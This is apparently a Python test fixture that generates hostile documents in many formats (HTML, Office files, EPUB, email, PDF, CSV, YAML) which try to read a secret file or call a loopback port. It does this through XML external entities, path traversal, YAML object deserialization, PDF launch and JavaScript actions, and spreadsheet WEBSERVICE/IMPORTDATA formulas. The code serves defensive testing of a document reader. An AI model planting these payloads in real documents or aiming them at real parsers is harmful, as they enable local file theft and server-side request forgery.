"""Builds documents that point at a secret file and at a listening socket, in every way their formats know (promise H2).

Each holds a word of its own, MARK and its number, so that one can see that it was read. Does not know who reads them.
"""

import io
import zipfile
from collections.abc import Iterator, Mapping
from pathlib import Path

from reportlab.pdfgen.canvas import Canvas

from tests.fakes.hostile_office import RELATIONSHIP_TYPES, TYPES, W, pack, relate, write_document
from tests.fakes.hostile_pdf import build_page, write_stream, write_text

MARK = "marker"
_S = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
_P = 'xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main"'
_A = 'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"'
_R = f'xmlns:r="{RELATIONSHIP_TYPES}"'
_LINKS = "word/_rels/document.xml.rels"


def make_outward_files(secret: Path, port: int) -> Mapping[str, bytes]:
    """Return documents by name.

    Args:
        secret: The file that they name by its path, and as a file:// address.
        port: Where on loopback they try to call.
    """
    addresses = [f"http://127.0.0.1:{port}/x", f"ftp://127.0.0.1:{port}/x", f"//127.0.0.1:{port}/x"]
    addresses += [secret.as_uri(), f"file://localhost{secret}", str(secret), "../" * 12 + str(secret)[1:]]
    makers = (_make_pages, _make_notes, _make_words, _make_sheets, _make_slides, _make_books, _make_mails, _make_pdfs)
    files: dict[str, bytes] = {}
    for make in (*makers, _make_plain):
        for name, content in make(addresses, secret, port):
            marked = content.replace(b"@@@", f"{MARK}{len(files):03d}".encode())
            files[name] = (
                marked if not name.endswith((".docx", ".xlsx", ".pptx", ".epub")) else _mark(content, len(files))
            )
    return files


def _mark(package: bytes, number: int) -> bytes:
    """Write a package anew with its mark in the parts."""
    with zipfile.ZipFile(io.BytesIO(package)) as parts:
        mark = f"{MARK}{number:03d}".encode()
        return pack({name: parts.read(name).replace(b"@@@", mark) for name in parts.namelist()})


_Named = Iterator[tuple[str, bytes]]


def _make_pages(addresses: list[str], _secret: Path, _port: int) -> _Named:
    elements = (
        '<img src="{0}" srcset="{0} 2x" alt="picture"> <input type="image" src="{0}">',
        '<script src="{0}"></script> <script type="module">import "{0}"</script>',
        '<link rel="stylesheet" href="{0}"> <link rel="preload" href="{0}"> <link rel="import" href="{0}">',
        '<style>@import url("{0}"); p {{ background: url("{0}") }} @font-face {{ src: url("{0}") }}</style>',
        '<iframe src="{0}"></iframe> <object data="{0}"></object> <embed src="{0}"> <applet code="{0}"></applet>',
        '<base href="{0}"> <a href="x" ping="{0}">x</a> <meta http-equiv="refresh" content="0; url={0}">',
        '<svg><image href="{0}" xlink:href="{0}"/><use href="{0}#a"/><text>s</text></svg> <math href="{0}"></math>',
        '<video src="{0}" poster="{0}"><track src="{0}"></video> <audio src="{0}"></audio> <body background="{0}">',
        '<form action="{0}"><button formaction="{0}">b</button></form> <frameset><frame src="{0}"></frameset>',
        '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{0}" parse="text"/> <p manifest="{0}">',
    )
    for number, element in enumerate(elements):
        links = "\n".join(element.format(address) for address in addresses)
        yield f"page{number:02d}.html", f"<html><head></head><body><p>@@@ words</p>{links}</body></html>".encode()
    for number, address in enumerate(addresses):
        start = f'<?xml version="1.0"?><?xml-stylesheet href="{address}"?>'
        start += (
            f'<!DOCTYPE html SYSTEM "{address}" [<!ENTITY f SYSTEM "{address}"><!ENTITY % p SYSTEM "{address}"> %p;]>'
        )
        yield f"entity{number}.xhtml", f"{start}<html><body><p>@@@ &f; words</p></body></html>".encode()


def _make_notes(addresses: list[str], secret: Path, _port: int) -> _Named:
    lines = [f'![picture]({address}) [link]({address} "t") <{address}> [a]: {address}' for address in addresses]
    lines += [f'<img src="{address}"><script src="{address}"></script>' for address in addresses]
    yield "links.md", "\n\n".join(["# @@@", *lines]).encode()
    tags = (
        '{{% include "{0}" %}}',
        "{{% include_relative {0} %}}",
        "{{{{ include '{0}' }}}}",
        "!INCLUDE {0}",
        "<<< {0}",
    )
    yield "templates.md", "\n\n".join(["# @@@", *(tag.format(secret) for tag in tags)]).encode()
    front = f"---\ntitle: '@@@'\nlayout: {secret}\na: !!python/object/apply:builtins.open [{secret}]\n---\nWords."
    yield "front.md", front.encode()


def _pack_words(links: str = "", document: str = "", **parts: str) -> bytes:
    body = "<w:p><w:r><w:t>@@@ words</w:t></w:r></w:p>"
    start = {**TYPES, "_rels/.rels": relate(officeDocument="word/document.xml"), _LINKS: links or relate()}
    return pack({**start, "word/document.xml": document or write_document(body), **parts})


def _relate_outside(kinds: tuple[str, ...], addresses: list[str], mode: str) -> str:
    entries = "".join(
        f'<Relationship Id="r{kind}{number}" Type="{RELATIONSHIP_TYPES}/{kind}" Target="{address}"{mode}/>'
        for kind in kinds
        for number, address in enumerate(addresses)
    )
    start = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    return f"{start}{entries}</Relationships>"


def _make_words(addresses: list[str], secret: Path, _port: int) -> _Named:
    kinds = (
        *("styles", "numbering", "footnotes", "image", "hyperlink", "attachedTemplate", "oleObject", "subDocument"),
        *("frame", "aFChunk", "settings", "mailMergeSource"),
    )
    for name, mode in (("outside", ' TargetMode="External"'), ("inside", "")):
        yield f"relations_{name}.docx", _pack_words(_relate_outside(kinds, addresses, mode))
        main = _relate_outside(("officeDocument",), addresses, mode)
        yield f"main_{name}.docx", pack({**TYPES, "_rels/.rels": main, "word/document.xml": "<w/>"})
    for number, address in enumerate(addresses):
        entity = f'<!DOCTYPE w SYSTEM "{address}" [<!ENTITY f SYSTEM "{address}"><!ENTITY % p SYSTEM "{address}"> %p;]>'
        body = "<w:p><w:r><w:t>@@@ &f;</w:t></w:r></w:p>"
        yield f"entity{number}.docx", _pack_words(document=entity + write_document(body))
        included = f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{address}" parse="text"/>'
        fields = f'<w:p><w:r><w:instrText>INCLUDETEXT "{address}"</w:instrText><w:t>@@@</w:t></w:r></w:p>{included}'
        yield f"include{number}.docx", _pack_words(document=write_document(fields))
        located = (
            f'<w:document {W} xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="a {address}">'
        )
        styled = f'<?xml-stylesheet type="text/xsl" href="{address}"?>{located}'
        words = "<w:body><w:p><w:r><w:t>@@@</w:t></w:r></w:p></w:body></w:document>"
        yield f"schema{number}.docx", _pack_words(document=styled + words)
    entity = f'<!DOCTYPE w [<!ENTITY f SYSTEM "{secret.as_uri()}">]>'
    yield "entity.docx", _pack_words(document=entity + write_document("<w:p><w:r><w:t>@@@ &f;</w:t></w:r></w:p>"))


def _make_sheets(addresses: list[str], secret: Path, _port: int) -> _Named:
    cell = (
        '<row r="1"><c r="A1" t="inlineStr"><is><t>@@@</t></is></c><c r="B1"><f>WEBSERVICE("{0}")</f><v>1</v></c></row>'
    )
    sheet = f"<worksheet {_S}><sheetData>{cell.format(addresses[0])}</sheetData></worksheet>"
    parts = {
        **TYPES,
        "_rels/.rels": relate(officeDocument="xl/workbook.xml"),
        "xl/workbook.xml": f'<workbook {_S} {_R}><sheets><sheet name="a" r:id="r1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": relate(worksheet="sheet1.xml", externalLink="link.xml"),
        "xl/sheet1.xml": sheet,
        "xl/link.xml": f'<externalLink {_S} {_R}><externalBook r:id="rexternalLinkPath0"/></externalLink>',
    }
    outside = _relate_outside(("externalLinkPath", "oleObject"), addresses, ' TargetMode="External"')
    yield "links.xlsx", pack({**parts, "xl/_rels/link.xml.rels": outside, "xl/_rels/sheet1.xml.rels": outside})
    entity = f'<!DOCTYPE w [<!ENTITY f SYSTEM "{secret.as_uri()}">]>'
    yield "entity.xlsx", pack({**parts, "xl/sheet1.xml": entity + sheet.replace("@@@", "@@@ &f;")})


def _make_slides(addresses: list[str], secret: Path, _port: int) -> _Named:
    slide = f"<p:sld {_P} {_A}><p:cSld><p:spTree><p:sp><p:txBody><a:p><a:r><a:t>@@@</a:t></a:r></a:p></p:txBody></p:sp>"
    slide += "</p:spTree></p:cSld></p:sld>"
    entry = '<p:sldId id="256" r:id="r1"/>'
    parts = {
        **TYPES,
        "_rels/.rels": relate(officeDocument="ppt/p.xml"),
        "ppt/p.xml": f"<p:presentation {_P} {_R}><p:sldIdLst>{entry}</p:sldIdLst></p:presentation>",
        "ppt/_rels/p.xml.rels": relate(slide="1.xml"),
        "ppt/1.xml": slide,
    }
    outside = _relate_outside(("image", "video", "notesSlide", "slide"), addresses, ' TargetMode="External"')
    yield "links.pptx", pack({**parts, "ppt/_rels/1.xml.rels": outside})
    entity = f'<!DOCTYPE w [<!ENTITY f SYSTEM "{secret.as_uri()}">]>'
    yield "entity.pptx", pack({**parts, "ppt/1.xml": entity + slide.replace("@@@", "@@@ &f;")})


def _make_books(addresses: list[str], secret: Path, _port: int) -> _Named:
    root = '<container><rootfile full-path="book.opf"/></container>'
    kind = 'media-type="application/xhtml+xml"'
    entity = f'<!DOCTYPE w [<!ENTITY f SYSTEM "{secret.as_uri()}">]>'
    links = "".join(f'<img src="{address}"/><a href="{address}">x</a>' for address in addresses)
    page = f'<?xml version="1.0"?>{entity}<html><body><p>@@@ &f;</p>{links}</body></html>'
    items = f'<item id="a" href="a.xhtml" {kind}/>'
    outside = "".join(f'<item id="b{number}" href="{address}" {kind}/>' for number, address in enumerate(addresses))
    order = "".join(f'<itemref idref="b{number}"/>' for number in range(len(addresses)))
    book = f'<package><manifest>{items}{outside}</manifest><spine>{order}<itemref idref="a"/></spine></package>'
    parts = {"META-INF/container.xml": root, "a.xhtml": page}
    yield "links.epub", pack({**parts, "book.opf": book})
    yield "entity.epub", pack({**parts, "book.opf": entity + book.replace("<manifest>", "<manifest>&f;")})


def _make_mails(addresses: list[str], secret: Path, _port: int) -> _Named:
    start = b"From: a@b.example\nSubject: @@@\nMIME-Version: 1.0\n"
    links = "".join(f'<img src="{address}"><link rel="stylesheet" href="{address}">' for address in addresses).encode()
    yield "links.eml", start + b"Content-Type: text/html\n\n<p>@@@ words</p>" + links
    outside = f'Content-Type: message/external-body; access-type=local-file; name="{secret}"'
    for address in addresses:
        outside += f'\n\n--x\nContent-Type: message/external-body; access-type=URL; URL="{address}"'
    mixed = b"Content-Type: multipart/mixed; boundary=x\n\n--x\n\n@@@ words\n\n--x\n"
    yield "outside.eml", start + mixed + outside.encode() + b"\n\nContent-Type: text/plain\n\n\n--x--\n"


def _make_pdfs(addresses: list[str], secret: Path, port: int) -> _Named:
    text = write_stream(write_text(b"@@@ words"))
    path, address = str(secret).encode(), f"http://127.0.0.1:{port}/x".encode()
    file = b"<< /Type /Filespec /F (%s) /UF (%s) >>" % (path, path)
    web = b"<< /FS /URL /F (%s) >>" % address
    actions = {
        "uri": b"/S /URI /URI (%s)" % address,
        "launch": b"/S /Launch /F %s /Win << /F (%s) >>" % (file, path),
        "goto": b"/S /GoToR /F %s /D [0 /Fit]" % file,
        "goto_web": b"/S /GoToR /F %s /D [0 /Fit]" % web,
        "submit": b"/S /SubmitForm /F %s" % web,
        "import": b"/S /ImportData /F %s" % file,
        "script": b"/S /JavaScript /JS (app.launchURL('%s'); this.submitForm('%s'); util.readFileIntoStream('%s'))"
        % (address, address, path),
        "movie": b"/S /Rendition /R << /S /MR /C << /S /MCD /D %s >> >>" % web,
    }
    for name, action in actions.items():
        page = b"/AA << /O << %s >> >> /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << %s >> >>]"
        data = build_page(text, page=page % (action, action))
        yield f"action_{name}.pdf", data.replace(b"/Type /Catalog", b"/Type /Catalog /OpenAction << %s >>" % action)
    for name, place in (("file", file), ("web", web), ("name", b"(%s)" % path)):
        outside = b"<< /Length 0 /F %s /FFilter [] >>\nstream\n\nendstream" % place
        yield f"stream_{name}.pdf", build_page(b"[6 0 R 7 0 R]", outside, text)
        form = b"<< /Type /XObject /Subtype /Form /Ref << /F %s /Page 0 >> /Length 0 >>\nstream\n\nendstream" % place
        yield (
            f"form_{name}.pdf",
            build_page(
                write_stream(b"/X Do " + write_text(b"@@@ words")),
                form,
                resources=b"/Font << /F1 5 0 R >> /XObject << /X 6 0 R >>",
            ),
        )
    packet = (
        f'<!DOCTYPE x [<!ENTITY f SYSTEM "{secret.as_uri()}">]><xdp:xdp><template>&f;</template></xdp:xdp>'.encode()
    )
    forms = build_page(text, write_stream(packet))
    yield "xfa.pdf", forms.replace(b"/Type /Catalog", b"/Type /Catalog /AcroForm << /XFA 6 0 R /Fields [] >>")
    yield "metadata.pdf", forms.replace(b"/Type /Catalog", b"/Type /Catalog /Metadata 6 0 R")
    yield "written.pdf", _draw_links(addresses)


def _draw_links(addresses: list[str]) -> bytes:
    target = io.BytesIO()
    canvas = Canvas(target, pageCompression=0)
    canvas.drawString(72, 700, "@@@ words")
    for number, address in enumerate(addresses):
        canvas.linkURL(address, (0, number, 9, 9))
    canvas.save()
    return target.getvalue()


def _make_plain(addresses: list[str], secret: Path, _port: int) -> _Named:
    yield "formula.csv", f'name,value\n@@@,"=WEBSERVICE(""{addresses[0]}"")"\nx,=IMPORTDATA("{secret}")\n'.encode()
    yield "reference.json", f'{{"a": "@@@", "$ref": "{secret.as_uri()}", "b": "{addresses[0]}"}}'.encode()
    yield "entity.xml", f'<!DOCTYPE x [<!ENTITY f SYSTEM "{secret.as_uri()}">]><x>@@@ &f;</x>'.encode()
    yield "picture.svg.xml", f'<svg><image href="{addresses[0]}"/><text>@@@</text></svg>'.encode()
    yield "anchor.yaml", f"a: '@@@'\nb: !!python/object/apply:builtins.open [{secret}]\nc: !include {secret}\n".encode()
